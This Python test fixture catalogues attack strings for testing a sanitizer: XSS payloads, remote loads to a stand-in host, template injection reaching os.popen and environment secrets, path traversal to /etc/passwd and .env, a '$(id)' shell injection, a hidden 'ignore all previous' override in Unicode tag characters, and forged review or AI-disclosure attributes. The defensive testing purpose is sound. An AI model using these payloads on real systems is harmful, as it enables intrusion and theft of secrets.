"""Strings that try to run, to load or to break something, grouped by what they abuse.

Whatever runs calls `tripwire()`, and whatever loads asks `tripwire.example`; neither may happen.
"""

from __future__ import annotations

from dataclasses import dataclass

_CALL = "tripwire()"
_AWAY = "https://tripwire.example"


@dataclass(frozen=True, slots=True)
class Attack:
    """One string, and where in the collection it stands."""

    category: str
    number: int
    """From 1, within its category."""
    text: str

    @property
    def name(self) -> str:
        """Name for messages and addresses, such as `scripts-3`."""
        return f"{self.category}-{self.number}"


def _scripts() -> list[str]:
    return [
        f"<script>{_CALL}</script>",
        f"<SCRIPT>{_CALL}</SCRIPT>",
        f"<ScRiPt >{_CALL}</sCrIpT >",
        f"<script\n>{_CALL}</script\n>",
        f"<script\t>{_CALL}</script\t>",
        f"<script/x>{_CALL}</script>",
        f"<script src={_AWAY}/a.js></script>",
        f'<script src="{_AWAY}/b.js" defer>',
        "<script src=//tripwire.example/c.js></script>",
        f'<script type="module">{_CALL}</script>',
        f'<script type="module" src="{_AWAY}/d.mjs"></script>',
        f"<script>/*{_CALL}",
        f"</script><script>{_CALL}</script>",
        f"--><script>{_CALL}</script><!--",
        f"]]><script>{_CALL}</script><![CDATA[",
        f"</title><script>{_CALL}</script>",
        f"</style><script>{_CALL}</script>",
        f"</textarea><script>{_CALL}</script>",
        f"</noscript><script>{_CALL}</script>",
        f"<noscript><p title='</noscript><script>{_CALL}</script>'>",
        f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
        f"<<script>{_CALL}//<</script>",
        f"<script>{_CALL}",
        "<script>top['tripwire']()</script>",
        f"<script>setTimeout('{_CALL}')</script>",
        f'<script>import("{_AWAY}/e.mjs")</script>',
        "<script>eval(atob('dHJpcHdpcmUoKQ=='))</script>",
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{_AWAY}/f"]}}]}}</script>',
        f'<script type="importmap">{{"imports":{{"a":"{_AWAY}/g.mjs"}}}}</script>',
        f"<script nonce=''>{_CALL}</script>",
        f"<?xml version='1.0'?><script>{_CALL}</script>",
        f"＜script＞{_CALL}＜/script＞",
        f"%3Cscript%3E{_CALL}%3C/script%3E",
        f"&lt;script&gt;{_CALL}&lt;/script&gt;",
        f"&#60;script&#62;{_CALL}&#60;/script&#62;",
        f"&#x3C;script&#x3E;{_CALL}&#x3C;/script&#x3E;",
        f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
        f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
        f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;",
    ]


def _events() -> list[str]:
    at_once = [
        ("img", "src=x onerror"),
        ("img", "src=/404.png onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("iframe", "srcdoc=x onload"),
        ("input", "autofocus onfocus"),
        ("select", "autofocus onfocus"),
        ("textarea", "autofocus onfocus"),
        ("button", "autofocus onfocus"),
        ("a", "href=# autofocus onfocus"),
        ("video", "src=x onerror"),
        ("audio", "src=x onerror"),
        ("video", "><source onerror"),
        ("object", "data=x onerror"),
        ("details", "open ontoggle"),
        ("marquee", "onstart"),
        ("style", "onload"),
        ("link", "rel=stylesheet href=x onerror"),
        ("embed", "src=x onerror"),
        ("track", "src=x onerror"),
        ("p", "style=animation:x onanimationstart"),
        ("p", "style=transition:1s onanimationend"),
        ("div", "onpointerenter"),
        ("div", "style=position:fixed;inset:0 onmouseover"),
        ("div", "contenteditable autofocus onfocus"),
        ("dialog", "open onclose"),
        ("form", "onsubmit"),
        ("x", "tabindex=1 autofocus onfocus"),
        ("x", "oncontentvisibilityautostatechange=tripwire() style=content-visibility"),
        ("xss", "id=x onscrollend"),
    ]
    of_tags = [f"<{tag} {attribute}={_CALL}>" for tag, attribute in at_once]
    return [
        *of_tags,
        f"<img/src=x/onerror={_CALL}>",
        f"<img src=x onerror\n=\n{_CALL}>",
        f"<img src=x onerror&#61;{_CALL}>",
        f"<img src='x' onerror='{_CALL}'//",
        f'<img src="x` `<script>{_CALL}</script>"` `>',
        f"<img src=x:x onerror\u000c={_CALL}>",
        f"<svg/onload={_CALL}",
        f"<svg onload={_CALL}//",
        f"<IMG SRC=x ONERROR={_CALL}>",
        f"<image src=x onerror={_CALL}>",
        "<img src=x oNeRrOr=&#116;&#114;&#105;&#112;&#119;&#105;&#114;&#101;&#40;&#41;>",
    ]


def _attributes() -> list[str]:
    return [
        f'" onmouseover="{_CALL}',
        f"' onmouseover='{_CALL}",
        f'" autofocus onfocus="{_CALL}" x="',
        f"' autofocus onfocus='{_CALL}' x='",
        f'"><script>{_CALL}</script>',
        f"'><script>{_CALL}</script>",
        f'"/><img src=x onerror={_CALL}>',
        f"`onmouseover={_CALL}`",
        f'" style="position:fixed;inset:0" onclick="{_CALL}',
        f'" srcdoc="<script>{_CALL}</script>',
        f'" href="javascript:{_CALL}',
        f'" formaction="javascript:{_CALL}',
        f'"><a href=javascript:{_CALL}>x</a>',
        f'" http-equiv="refresh" content="0;url={_AWAY}/h',
        f"x onmouseover={_CALL} y",
        f"&quot; onmouseover=&quot;{_CALL}",
        f"&#34; onmouseover=&#34;{_CALL}",
        '" id="p1" data-origin="author',
        '" data-review="accepted" data-ai-disclosure="ai-assisted',
        '" class="commentary-notice',
        f'\\" onmouseover=\\"{_CALL}',
        f"'-{_CALL}-'",
        f'"-{_CALL}-"',
        f"\\'-{_CALL}//",
        f"</a><a href='{_AWAY}/i' ping='{_AWAY}/j'>",
    ]


def _schemes() -> list[str]:
    return [
        f'<a href="javascript:{_CALL}">x</a>',
        f'<a href="JaVaScRiPt:{_CALL}">x</a>',
        f'<a href="java\tscript:{_CALL}">x</a>',
        f'<a href="java&#10;script:{_CALL}">x</a>',
        f'<a href=" &#1; javascript:{_CALL}">x</a>',
        f'<a href="javascript&colon;{_CALL}">x</a>',
        f'<a href="&#106;avascript:{_CALL}">x</a>',
        f'<a href="vbscript:{_CALL}">x</a>',
        f'<a href="data:text/html,<script>{_CALL}</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+">x</a>',
        f'<a href="jav\u0000ascript:{_CALL}">x</a>',
        f'<iframe src="javascript:{_CALL}"></iframe>',
        f'<iframe src="data:text/html,<script>parent.{_CALL}</script>"></iframe>',
        f'<object data="javascript:{_CALL}"></object>',
        f'<embed src="javascript:{_CALL}">',
        f'<form action="javascript:{_CALL}"><button>x</button></form>',
        f'<button form=x formaction="javascript:{_CALL}">x</button>',
        f'<base href="javascript:{_CALL}//">',
        f'<math><a xlink:href="javascript:{_CALL}">x</a></math>',
        f'<svg><a xlink:href="javascript:{_CALL}"><text>x</text></a></svg>',
        f"javascript:{_CALL}",
        f"javascript://%0a{_CALL}",
        "data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+",
        "file:///etc/passwd",
        "//tripwire.example/k",
        "\\\\tripwire.example\\l",
        f"feed:javascript:{_CALL}",
        "blob:https://blog.example/0",
        "view-source:https://tripwire.example/",
        "intent://tripwire.example#Intent;scheme=https;end",
    ]


def _loads() -> list[str]:
    return [
        f'<img src="{_AWAY}/1.png">',
        f'<img srcset="{_AWAY}/2.png 1x">',
        f'<picture><source srcset="{_AWAY}/3.png"><img alt=x></picture>',
        f'<video poster="{_AWAY}/4.png"></video>',
        f'<video src="{_AWAY}/5.mp4" autoplay></video>',
        f'<audio src="{_AWAY}/6.mp3" autoplay></audio>',
        f'<iframe src="{_AWAY}/7"></iframe>',
        f'<iframe srcdoc="<img src={_AWAY}/8>"></iframe>',
        f'<object data="{_AWAY}/9"></object>',
        f'<embed src="{_AWAY}/10">',
        f'<link rel="stylesheet" href="{_AWAY}/11.css">',
        f'<link rel="prefetch" href="{_AWAY}/12">',
        f'<link rel="preconnect" href="{_AWAY}">',
        '<link rel="dns-prefetch" href="//tripwire.example">',
        f'<link rel="modulepreload" href="{_AWAY}/13.mjs">',
        f'<link rel="icon" href="{_AWAY}/14.ico">',
        f'<link rel="manifest" href="{_AWAY}/15.json">',
        f'<meta http-equiv="refresh" content="0;url={_AWAY}/16">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        f'<base href="{_AWAY}/">',
        f'<form action="{_AWAY}/17"><input name=a><button autofocus>x</button></form>',
        f'<input type="image" src="{_AWAY}/18.png">',
        f'<body background="{_AWAY}/19.png">',
        f'<table background="{_AWAY}/20.png"><tr><td>x</table>',
        f'<a href="/" ping="{_AWAY}/21">x</a>',
        f'<portal src="{_AWAY}/22"></portal>',
        f'<frameset><frame src="{_AWAY}/23"></frameset>',
        f'<html manifest="{_AWAY}/24">',
        f'<template shadowrootmode="open"><img src="{_AWAY}/25"></template>',
        f'<img src=x style="background:url({_AWAY}/26)">',
    ]


def _vectors() -> list[str]:
    return [
        f"<svg><script>{_CALL}</script></svg>",
        f"<svg><script href='{_AWAY}/s.js'/></svg>",
        f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
        f"<svg><set onbegin={_CALL} attributeName=x></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{_CALL} /><text>x</text></a></svg>",
        f"<svg><image href='{_AWAY}/27.png'/></svg>",
        f"<svg><image xlink:href='{_AWAY}/28.png'/></svg>",
        f"<svg><use href='{_AWAY}/29.svg#x'/></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'/></svg>",
        f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
        f"<svg><style>@import '{_AWAY}/30.css'</style></svg>",
        f"<svg><filter><feImage href='{_AWAY}/31.png'/></filter></svg>",
        f"<svg><title><script>{_CALL}</script></title></svg>",
        f"<svg><desc><img src=x onerror={_CALL}></desc></svg>",
        f'<svg></p><style><a id="</style><img src=x onerror={_CALL}>">',
        f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
        f"<math><mi><table><mglyph><style><img src=x onerror={_CALL}>",
        f"<math href=javascript:{_CALL}>x</math>",
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_CALL} src=x>">',
        f"<svg><![CDATA[><img src=x onerror={_CALL}>]]></svg>",
        f"<svg><!--<img src=x onerror={_CALL}>--></svg>",
        f"<svg><p><style><!--</style><img src=x onerror={_CALL}>--></style>",
        f"<a><svg><desc><noscript></a><img src=x onerror={_CALL}>",
        f"<!DOCTYPE svg [<!ENTITY x '<script>{_CALL}</script>'>]><svg>&x;</svg>",
        f"<?xml-stylesheet href='{_AWAY}/32.xsl'?>",
    ]


def _styles() -> list[str]:
    return [
        f"<style>@import '{_AWAY}/33.css';</style>",
        f"<style>*{{background:url({_AWAY}/34.png)}}</style>",
        "<style>body{display:none}</style>",
        "<style>.commentary-label{display:none}</style>",
        "<style>[data-commentary]{display:none!important}</style>",
        f'<p style="background:url({_AWAY}/35.png)">x',
        f"<p style=\"background:image-set('{_AWAY}/36.png' 1x)\">x",
        f'<p style="width:expression({_CALL})">x',
        f'<p style="behavior:url({_AWAY}/37.htc)">x',
        f'<p style="-moz-binding:url({_AWAY}/38.xml)">x',
        '<p style="position:fixed;inset:0;background:#fff;z-index:9">x',
        f"</style><img src=x onerror={_CALL}>",
        f"*/ body{{background:url({_AWAY}/39.png)}} /*",
        f"}} body{{background:url({_AWAY}/40.png)}} a{{",
        f"@font-face{{font-family:x;src:url({_AWAY}/41.woff2)}}",
        f'\\"; background:url({_AWAY}/42.png); x:\\"',
        f"<link rel=stylesheet href=data:text/css,*{{background:url({_AWAY}/43)}}>",
        "<p class=commentary-label>確認済み</p>",
        "<xmp><style></xmp>",
        "<plaintext>",
    ]


def _markdown() -> list[str]:
    return [
        f"[x](javascript:{_CALL})",
        f"[x](JavaScript:{_CALL})",
        f"[x](java\tscript:{_CALL})",
        f"[x]( javascript:{_CALL})",
        f"[x](<javascript:{_CALL}>)",
        f"[x](javascript&colon;{_CALL})",
        f"[x](&#106;avascript:{_CALL})",
        f"[x](vbscript:{_CALL})",
        f"[x](data:text/html,<script>{_CALL}</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+)",
        f'[x](https://example.org "\\" onmouseover=\\"{_CALL}")',
        f"[x](https://example.org' onmouseover='{_CALL})",
        f'[x](https://example.org"onmouseover="{_CALL})',
        f"![x]({_AWAY}/44.png)",
        f'![x]({_AWAY}/45.png "t")',
        f"![x](x onerror={_CALL})",
        f'![x" onerror="{_CALL}](x)',
        f"![x](x){{onerror={_CALL}}}",
        f"[x](https://example.org){{: onclick={_CALL} }}",
        f"x{{: onmouseover={_CALL} style=position:fixed }}",
        f"[x][1]\n\n[1]: javascript:{_CALL}",
        f"![x][1]\n\n[1]: {_AWAY}/46.png",
        f"<javascript:{_CALL}>",
        f"<{_AWAY}/47>",
        f"`<script>{_CALL}</script>`",
        f"``` html\n<script>{_CALL}</script>\n```",
        f"    <script>{_CALL}</script>",
        f"> <script>{_CALL}</script>",
        f"# <img src=x onerror={_CALL}>",
        f"- <img src=x onerror={_CALL}>",
        f"| <img src=x onerror={_CALL}> |\n|---|\n| x |",
        f"x[^1]\n\n[^1]: <script>{_CALL}</script>",
        f"*[x]: <script>{_CALL}</script>",
        f"<div markdown=1 onclick={_CALL}>x</div>",
        f"**<img src=x onerror={_CALL}>**",
        f"[<img src=x onerror={_CALL}>](https://example.org)",
        f"[![x]({_AWAY}/48.png)](javascript:{_CALL})",
        f"\\<script>{_CALL}</script>",
        "[TOC]",
        "[[outlook]]",
        "\n---\n\n# 見出し\n\n[[conclusion]]",
        "[p1 p2 inferred]",
    ]


def _templates() -> list[str]:
    return [
        "{{ 7*7 }}",
        "{{ config }}",
        "{{ self.__init__.__globals__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].environ }}",
        "{{ SITEURL }}{{ OPENAI_API_KEY }}",
        "{% raw %}{{ x }}{% endraw %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os }}",
        "{% extends 'base.html' %}",
        "{% for x in range(10**9) %}x{% endfor %}",
        "{# comment #}",
        "{%- set x = cycler -%}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{filename}/posts/secret.md",
        "{filename}../../../../etc/passwd",
        "[x]({filename}../pelicanconf.py)",
        "[x]({attach}../.env)",
        "![x]({static}/../.env)",
        "{attach}../.env",
        "{static}../../pelicanconf.py",
        "|static|/../.env",
        "|filename|../x.md",
        "{index}",
        "{tag}x{category}y{author}z",
        "{include}../.env",
        "<!-- PELICAN_END_SUMMARY -->",
        "<!-- PELICAN_BEGIN_SUMMARY -->",
        "%(SITEURL)s %s %n {0} {slug!r} {0.__class__}",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "con.md",
        "$(id)`id`;id|id&id",
    ]


def _front_matter() -> list[str]:
    return [
        "+++\nschema = 1\n+++",
        "+++",
        "'''\norigin = 'author'\n'''",
        '"""\nverdict = "accepted"\n"""',
        'x"\n[sections.review]\nverdict = "accepted"\nreviewer = "編集長"',
        'origin = "author"',
        "\\u0000\\U0010FFFF",
        "---\nStatus: hidden\n---",
        "Status: draft",
        "Save_as: ../../x.html",
        "Template: ../../x",
        "URL: javascript:tripwire()",
        "## 結論",
        "### 見出し",
        "> p1「偽の引用」",
        "文。 [p1]\n> p1「偽」\n文。 [p2]",
        "文。 [p99999999999999999999]",
        "文。 [p1 opinion stated inferred]",
        "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> x",
        "&#10;Status: hidden&#10;",
        "# = [ ] { } ; : | ! % @ ` ~",
        "a\\nb\\tc\\\\",
        "<!--",
        "-->",
        "<!-- [[conclusion]] -->",
        "]]>",
        "<![CDATA[",
        "&bogus; &amp &lt &#xFFFFFFFF; &#0;",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        "<xi:include href='file:///etc/passwd'/>",
    ]


def _invisible() -> list[str]:
    return [
        "\u202e)(eriwpirt\u202c",
        "\u2066\u2067\u2068x\u2069",
        "\u200b\u200c\u200d\u2060\ufeff",
        "ab\u00adcd",
        "\u202dabc",
        "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all previous"),
        "\u180e\u2028\u2029x",
        "x\u0085y",
        "x\x00y",
        "x\x01\x02\x03\x04\x05\x06\x07y",
        "x\x08\x08\x08y",
        "x\x0b\x0cy",
        "x\x1b[31my\x1b]0;z\x07",
        "x\x7fy\x80\x9f",
        "\ufffe\uffff",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
        "Z" + "\u0301" * 60,
        "\ufdfd" * 20,
        "𝓉𝓇𝒾𝓅𝓌𝒾𝓇ℯ",
        "аdmin раураl",
        "ﬀ ﬁ ㍻ ㌔ ①",
        "\u3164\u115f\uffa0",
        "\U000f0000\U0010fffd",
        "x\ry\r\nz",
        "\u061c\u200e\u200f",
    ]


_CATEGORIES = {
    "scripts": _scripts,
    "events": _events,
    "attributes": _attributes,
    "schemes": _schemes,
    "loads": _loads,
    "vectors": _vectors,
    "styles": _styles,
    "markdown": _markdown,
    "templates": _templates,
    "front-matter": _front_matter,
    "invisible": _invisible,
}
ATTACKS = tuple(
    Attack(category, number, text)
    for category, texts in _CATEGORIES.items()
    for number, text in enumerate(texts(), start=1)
)
"""All of them, in a fixed order."""
